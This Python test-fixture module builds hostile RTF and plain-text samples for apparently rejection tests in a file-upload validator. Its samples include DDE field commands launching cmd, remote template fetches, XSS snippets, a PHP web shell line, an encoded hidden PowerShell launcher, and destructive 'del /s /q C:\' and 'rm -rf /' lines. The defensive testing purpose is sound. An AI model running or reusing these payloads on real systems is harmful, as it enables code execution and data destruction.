"""Hostile RTF and plain texts: objects, fields that fetch, scripts, encodings that hide."""

from tests.hostile.archive_files import program
from tests.hostile.hostile_file import MISMATCH, HostileFile

_EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def rtf(body: bytes) -> bytes:
    """An RTF document."""
    return rb"{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0 Helvetica;}}\f0\fs22 Bonjour\par " + body + b"}"


def field(instruction: bytes) -> bytes:
    """An RTF document with a field."""
    return rtf(rb"{\field{\*\fldinst " + instruction + rb"}{\fldrslt x}}")


_RTF = {
    "an object in an RTF": rtf(rb"{\object\objemb{\*\objdata 0105000002000000}}"),
    "an object in an RTF that updates itself": rtf(rb"{\object\objautlink\objupdate{\*\objclass Excel.Sheet}}"),
    "an object in an RTF with a name cut by a line": rtf(b"{\\object\\objocx\r\n{\\*\\objdata\n d0cf11e0}}"),
    "a command of an RTF": field(rb'DDEAUTO c:\\windows\\system32\\cmd.exe "/c calc"'),
    "a command of an RTF in pieces": field(rb"{\b D}{\i D}{EAU}{\'54O} cmd"),
    "a command of an RTF in other letters": field(rb"{\u68?\u68?\u69?} cmd"),
    "a command of an RTF behind raw bytes": field(b"{\\bin1 }}DDE cmd"),
    "a picture of an RTF from elsewhere": field(rb'INCLUDEPICTURE "http://example.org/a.png" \\d'),
    "a text of an RTF from a share": field(rb'INCLUDETEXT "\\\\\\\\198.51.100.1\\\\a"'),
    "a link of an RTF that is a script": field(rb'HYPERLINK "javascript:alert(1)"'),
    "a template of an RTF from elsewhere": rtf(rb"{\*\template http://example.org/a.dotm}"),
    "a template of an RTF from a share": rtf(rb"{\*\template \\\\198.51.100.1\\a.dotm}"),
    "a template of an RTF in other letters": rtf(
        rb"{\*\template " + b"".join(b"\\u%d?" % letter for letter in b"http://example.org/a.dotm") + b"}"
    ),
    "a template of an RTF in letters below zero": rtf(
        rb"{\*\template " + b"".join(b"\\u-%d?" % (65_536 - letter) for letter in b"http://example.org/a") + b"}"
    ),
    "a template of an RTF in raw bytes": rtf(b"{\\*\\template \\bin4 http://example.org/a.dotm}"),
    "a command of an RTF in a field behind quotation marks": field(
        rb'IF 1=1 "a" {\field{\*\fldinst INCLUDEPICTURE "http://example.org/a.png" \\d}}'
    ),
    "a command of an RTF in a field within a link": field(
        rb'HYPERLINK "https://example.org" {\field{\*\fldinst DDEAUTO cmd "/c calc"}}'
    ),
    "a command of an RTF behind a field": field(rb'{\field{\*\fldinst QUOTE "x"}{\fldrslt D}}DE cmd'),
    "a command of an RTF in numbers": field(rb"{\field{\*\fldinst QUOTE 68 68 69}} cmd"),
    "a command of an RTF behind much": field(b" " * 70_000 + b"DDEAUTO cmd"),
    "fields of an RTF without end": rtf(rb"{\field{\*\fldinst IF " * 200 + b"}}" * 200),
    "a page behind an RTF": rtf(b"") + b"<html><script>alert(1)</script>",
    "a program behind an RTF": rtf(b"") + program(),
}
_TEXTS = {
    "a script in a text": b"Bonjour\n<script>alert(1)</script>\n",
    "a frame in a text": b"Bonjour <iframe src=//example.org></iframe>",
    "a picture in a text that runs something": b"Bonjour <img src=x onerror=alert(1)>",
    "a batch file": b"@echo off\r\ndel /s /q C:\\\r\n",
    "a script of Windows": b'Set a = CreateObject("WScript.Shell")\r\na.Run "calc"\r\n',
    "a script of PowerShell": b"powershell -nop -w hidden -enc ZQBjAGgAbwA=\n",
    "a script of JScript": b"var a = new ActiveXObject('WScript.Shell'); a.Run('calc');",
    "a shortcut": b"[InternetShortcut]\r\nURL=file://198.51.100.1/a\r\n",
    "a file for the registry": b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER]\r\n",
    "a page in a mail": b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=a\r\n\r\n--a\r\n",
    "a script in UTF-7": b"Bonjour +ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "a PDF with a script in a text": b" \n%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(a)>>>>endobj\n%%EOF\n",
    "a script of a server in a text": b"Bonjour <?php system($_GET['a']); ?>",
    "the test file of anti-virus software": _EICAR,
}
_NO_TEXTS = {
    "a shell script": b"#!/bin/sh\nrm -rf /\n",
    "a page called text": b"<!DOCTYPE html><html><body>Bonjour</body></html>",
    "a drawing called text": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "a script called text": b"<script>alert(1)</script>",
    "a script in UTF-16": "<script>alert(1)</script>".encode("utf-16"),
    "a text with a null": b"Bonjour\x00<script>",
    "a text that moves the cursor": b"Bonjour \x1b]0;rm -rf\x07",
}

TEXT_FILES = (
    *(HostileFile(name, "application/rtf", content) for name, content in _RTF.items()),
    *(HostileFile(name, "text/plain", content) for name, content in _TEXTS.items()),
    *(HostileFile(name, "text/plain", content, MISMATCH) for name, content in _NO_TEXTS.items()),
)
